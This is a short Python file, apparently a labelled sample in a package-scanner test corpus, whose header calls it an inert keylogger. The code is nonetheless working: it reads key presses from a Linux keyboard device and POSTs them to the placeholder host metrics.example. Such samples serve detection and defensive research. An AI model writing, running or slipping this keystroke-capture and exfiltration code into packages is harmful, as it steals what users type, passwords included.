# pkgguard corpus 288 (keylogger), modelled on [stealer-profile]; inert, never run.
import glob
import struct
import urllib.request

EVENT = struct.Struct("llHHi")
device = next(iter(glob.glob("/dev/input/by-path/*-kbd")), None)
keys = []
if device:
    with open(device, "rb") as dev:
        while len(keys) < 200:
            _, _, etype, code, value = EVENT.unpack(dev.read(EVENT.size))
            if etype == 1 and value == 1:
                keys.append(code)
    urllib.request.urlopen(
        urllib.request.Request("https://metrics.example/k", data=bytes(keys), method="POST")
    )
